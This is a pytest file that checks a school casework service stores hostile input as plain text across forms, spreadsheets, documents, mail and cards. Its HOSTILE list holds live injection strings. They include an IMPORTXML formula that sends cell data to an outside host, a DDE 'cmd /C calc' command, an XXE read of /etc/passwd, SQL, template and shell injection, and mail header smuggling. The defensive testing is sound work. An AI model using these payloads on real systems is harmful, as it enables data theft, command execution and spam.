"""Whatever is typed or sent is text: it is stored, shown and rendered as text. Nothing is executed,
nothing else breaks, and the next sync has nothing to do."""

from __future__ import annotations

import io
from collections.abc import Iterator
from typing import Any

import pytest
from docx import Document

from service.casework.names import fold
from service.casework.text import fit_text
from tests.school_fixture import ADMIN, DANA, DOCX, DOMAIN, ROOT, LiveSchool, questions
from tests.web.conftest import Panel

NORA = f"nora.lind@{DOMAIN}"
RUTH = f"ruth.adeyemi@{DOMAIN}"
MAREN = f"maren.okafor@{DOMAIN}"

HOSTILE = {
    "a formula": '=IMPORTXML("https://example.com/?q="&A1;"//a")',
    "another formula": '+HYPERLINK("https://example.com","here")',
    "a command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "HTML": "<script>alert(1)</script><img src=x onerror=alert(2)> & <b>bold</b>",
    "a template": "{{ 7*7 }} {% for c in [].__class__.__mro__ %}{{ c }}{% endfor %} {# gone #}",
    "a template of documents": "{%p if x %}{{r self.__init__ }}{%tr for a in b %}",
    "a format": "%s %(name)s {student} {0.__class__} ${HOME} $(id) `id`",
    "control characters": "be\x07ll \x1b[31mred\x1b[0m nul\x00l form\x0cfeed",
    "right to left": "\u202egnp.exe\u202c \u2066isolated\u2069 \u200fשלום",
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈👍🏽 Z̷̛̗a̸͎͐l̶̰̔g̵̭̈́o̶͓͝",
    "zero width": "An\u200ba Sil\u200dva\ufeff\u2060",
    "SQL": "Robert'); DROP TABLE agreed;-- \" OR 1=1",
    "XML": "]]> <!ENTITY x SYSTEM 'file:///etc/passwd'> &x; &#0; <?xml ?>",
    "beyond the first plane": "𝒜𝓃𝒶 \U0010ffff \ufffe",
    "line ends": "one\r\ntwo\rthree\u2028four\u2029five\x85six\tseven",
    "a mail's header": "Subject: x\r\nBcc: everybody@example.com\r\n\r\nHello",
}
LONG = "Fifty thousand. " * 3125
assert len(LONG) == 50_000


STUDENT_TABS = ("Diary", "Goals", "Actions", "Accommodations", "Team")
WHO = {"Student": "Ana Silva"}


def in_order(live: LiveSchool) -> None:
    """A sync that finishes, and a second that finds nothing left to do."""
    live.sync()
    again = live.sync()
    assert not again.changes, list(again.planned)[:3]
    assert not formulas(live)


def formulas(live: LiveSchool) -> list[dict[str, Any]]:
    """Every cell of the three workbooks that computes something."""
    return [
        cell["userEnteredValue"]
        for file_id in live.found["workbooks"].values()
        for cell in cells_of(live, file_id)
        if "formulaValue" in cell.get("userEnteredValue", {})
    ]


def cells_of(live: LiveSchool, file_id: str) -> Iterator[dict[str, Any]]:
    fields = "sheets.data.rowData.values.userEnteredValue"
    book = live.google(f"/v4/spreadsheets/{file_id}?includeGridData=true&fields={fields}", ADMIN)
    for sheet in book["sheets"]:
        for grid in sheet.get("data", ()):
            for row in grid.get("rowData", ()):
                yield from row.get("values", ())


def standing(text: str) -> str:
    """What is to be kept of a text: all of it, but for characters that no cell can hold."""
    return "".join(each for each in text if each in "\n\t" or ord(each) >= 32)


def the_rest_is_done(live: LiveSchool) -> None:
    """A row that was typed beside the hostile ones has become an event."""
    assert any(e["start"].get("date") == "2026-10-21" for e in live.events(DANA))


def an_ordinary_row(live: LiveSchool) -> None:
    row = {"Kind": "Meeting", "Date": "2026-10-21", "Status": "Planned"}
    live.type_row("caseload", "Diary", {**WHO, **row})


# ---------------------------------------------------------------- forms


def test_what_a_form_brings_is_stored_as_text_and_answered(small: LiveSchool) -> None:
    small.sync()
    small.refer(person=NORA, student_name="Zoë O'Brien", grade="10", concern="Before.")
    for number, text in enumerate(HOSTILE.values()):
        form, person = (("inside", NORA), ("outside", ""))[number % 2]
        answers = {"student_name": text, "concern": text, "strengths": text, "tried": text}
        small.refer(form, person, referrer_name=text, **answers)
    small.refer("outside", student_name=LONG[:200], concern=LONG * 2, tried=LONG)
    small.refer(person=NORA, danger="Yes", student_name=HOSTILE["HTML"], concern=HOSTILE["SQL"])
    small.refer(person=NORA, student_name="Thandi Dlamini", grade="11", concern="After.")
    in_order(small)
    rows = small.rows("office", "Referrals")
    assert len(rows) == len(HOSTILE) + 4
    concerns = {row["Concern"] for row in rows}
    assert {standing(text) for text in HOSTILE.values()} | {"Before.", "After."} <= concerns
    (long,) = (text for text in concerns if text.startswith("Fifty"))
    assert LONG[:40_000] in long
    assert long.endswith("(the form holds the rest)")
    assert len(long) <= 50_000
    assert HOSTILE["SQL"] in small.rows("restricted", "Safety referrals")[0]["Concern"]
    assert small.find("office", "Referrals", Concern="After")["Student"] == "Thandi Dlamini"
    ours = (len(HOSTILE) + 1) // 2 + 3
    assert len([m for m in small.mails(NORA) if "We received" in m["Subject"]]) == ours
    alerts = [mail for mail in small.mails(RUTH) if "R-" in mail["Subject"]]
    assert len(alerts) == 1
    told = [*small.mails(NORA), *alerts]
    assert not any(text in str(mail) for mail in told for text in HOSTILE.values())


def test_an_address_cannot_smuggle_in_a_header_or_another_reader(small: LiveSchool) -> None:
    small.sync()
    mother, other = "mother@mail.example", "other@mail.example"
    for reach in (
        f"{mother}\r\nBcc: {other}",
        f"{mother}, {other}",
        f"{mother}%0d%0aBcc:{other}",
        f"=HYPERLINK({mother})",
        f"<script>{mother}</script>",
        "<script>@mail.example",
    ):
        small.refer("outside", student_name="Ana Silva", concern="x", reach=reach)
    in_order(small)
    assert len(small.rows("office", "Referrals")) == 6
    assert len(small.mails(mother)) == 4
    assert {mail["To"] for mail in small.mails(mother)} == {mother}
    assert not any("Bcc" in mail or "Cc" in mail for mail in small.mails(mother))
    assert not small.mails(other)


# ---------------------------------------------------------------- cells


def test_cells_are_rendered_as_text_in_documents_sheets_and_cards(small: LiveSchool) -> None:
    every = "\n".join(HOSTILE.values())
    small.change("caseload", "Caseload", WHO, {"Needs": every, "Strengths": LONG})
    for text in HOSTILE.values():
        papers = {
            "Goals": {"Goal": text, "Measure": text, "Unit": text, "Direction": "Increase"},
            "Actions": {"Action": text, "Who": text, "Outcome": text},
            "Accommodations": {"Accommodation": text, "Where": text, "Q1 why": text},
            "Team": {"Person": text, "Role": text, "Phone": text},
            "Diary": {"Kind": "Check-in", "Date": "2026-10-20", "Notes": text, "With": text},
        }
        for tab, cells in papers.items():
            status = {"Status": "Planned"} if tab == "Diary" else {}
            small.type_row("caseload", tab, {**WHO, **cells, **status})
    an_ordinary_row(small)
    in_order(small)
    the_rest_is_done(small)
    assert len(small.events(DANA)) == len(HOSTILE) + 1
    assert {event["summary"] for event in small.events(DANA)} <= {
        "Check-in · C-0001",
        "Meeting · C-0001",
    }
    (plan,) = small.files(holdfast="action_plan")
    written = text_of(small, plan["id"])
    for text in HOSTILE.values():
        assert squeezed(text) in written, text
    assert squeezed(LONG) in written
    sheet = small.files(holdfast="progress_sheet")[0]["id"]
    goals = {cell["userEnteredValue"].get("stringValue") for cell in cells_of(small, sheet) if cell}
    assert HOSTILE["a formula"] in goals
    shown = running_text(Panel(small).card(DANA, "case", {"code": "C-0001"}))
    assert any("&lt;script&gt;" in text for text in shown)
    assert not any("<script" in text or "<img" in text for text in shown)


def running_text(card: Any) -> list[str]:
    """Where Google reads HTML tags: paragraphs, lines and the headers of sections."""
    if isinstance(card, list):
        return [text for each in card for text in running_text(each)]
    if not isinstance(card, dict):
        return []
    own = [card[key]["text"] for key in ("textParagraph", "decoratedText") if key in card]
    own += [card["header"]] if isinstance(card.get("header"), str) else []
    return [*own, *(text for each in card.values() for text in running_text(each))]


def text_of(live: LiveSchool, file_id: str) -> str:
    address = f"{ROOT}/drive/v3/files/{file_id}/export"
    answer = live.people.session_as(ADMIN).get(address, params={"mimeType": DOCX})
    document = Document(io.BytesIO(answer.content))
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return squeezed("\n".join([*(p.text for p in document.paragraphs), *cells]))


def squeezed(text: str) -> str:
    return "".join(fit_text(text).split())


@pytest.mark.parametrize(
    "tab",
    [
        pytest.param(tab, marks=pytest.mark.gate("tabs full of nonsense") if number > 1 else ())
        for number, tab in enumerate(STUDENT_TABS)
    ],
)
def test_nonsense_in_every_column_is_asked_about_and_stops_nothing_else(
    small: LiveSchool, tab: str
) -> None:
    """Dates, numbers, choices, and the hidden columns that nobody should type into."""
    for heading in small.tab("caseload", tab).row_values(1):
        for text in (HOSTILE["a formula"], HOSTILE["a template"], HOSTILE["SQL"]):
            small.type_row("caseload", tab, {**WHO, heading: text})
    nonsense = HOSTILE["zero width"]
    small.type_row(
        "caseload", tab, dict.fromkeys(small.tab("caseload", tab).row_values(1), nonsense)
    )
    an_ordinary_row(small)
    in_order(small)
    the_rest_is_done(small)
    asked = list(questions(small, "caseload"))
    assert asked
    assert all(each["Why"] and each["Whose"] for each in asked)


def test_names_of_students_are_text_too(small: LiveSchool) -> None:
    # A name that reads as Ana Silva's, invisible characters aside, is hers: that is asked about.
    others = [text for text in HOSTILE.values() if fold(text) != fold(WHO["Student"])]
    for number, text in enumerate(others):
        student = {"Student ID": f"9{number:04d}", "Student": text, "Grade": "7"}
        small.type_row("office", "Students", student)
        case = {"Case manager": "Dana Whitfield", "Status": "Active", "Also known as": text}
        small.type_row("caseload", "Caseload", {**student, **case})
        for tab in ("Diary", "Goals"):
            small.type_row("caseload", tab, {"Student": text, "Kind": "Academic"})
    an_ordinary_row(small)
    in_order(small)
    the_rest_is_done(small)
    assert len(small.files(holdfast="progress_sheet")) == len(others) + 1
    names = {file["name"] for file in small.files(holdfast="progress_sheet")}
    assert all("C-0" in name and len(name) < 60 for name in names), names


def test_half_a_character_on_a_card_is_saved_like_any_other_text(small: LiveSchool) -> None:
    """JSON can spell a lone surrogate; UTF-8 cannot, so Sheets would refuse it with all else."""
    small.sync()
    panel = Panel(small)
    broken = "Ana \ud83d says \udc00 =1+1"
    panel.card(DANA, "find", {"words": broken})
    card = panel.card(DANA, "log_contact", {"code": "C-0001"})
    said = {"kind": "Family contact", "how": "Phone", "person": broken, "note": broken}
    panel.press(DANA, card, "Save", said)
    row = small.find("caseload", "Diary", Student="Ana Silva")
    assert row["Notes"].startswith("Ana ")
    assert row["Notes"].endswith(" =1+1")
    an_ordinary_row(small)
    in_order(small)
    the_rest_is_done(small)


@pytest.mark.parametrize("kind", HOSTILE)
def test_hostile_words_on_a_card_are_looked_for_and_saved_as_words(
    written_on: Panel, kind: str
) -> None:
    text = HOSTILE[kind]
    written_on.card(DANA, "find", {"words": text})
    card = written_on.card(DANA, "log_contact", {"code": "C-0001"})
    said = {"kind": "Family contact", "how": "Phone", "person": "Ms Silva", "note": text}
    written_on.press(DANA, card, "Save", said)
    notes = {row["Notes"] for row in written_on.live.rows("caseload", "Diary")}
    assert standing(text).strip() in {standing(note) for note in notes}
    assert not formulas(written_on.live)


@pytest.fixture(scope="module")
def written_on(tmp_path_factory: pytest.TempPathFactory) -> Panel:
    """A school with one case whose card is written on again and again."""
    live = LiveSchool(tmp_path_factory.mktemp("school")).init()
    dana = {"Email": DANA, "Name": "Dana Whitfield", "Role": "Case manager"}
    live.type_row("office", "Staff", dana)
    case = {"Student": "Ana Silva", "Case manager": "Dana Whitfield", "Status": "Active"}
    live.type_row("caseload", "Caseload", case)
    live.sync()
    return Panel(live)
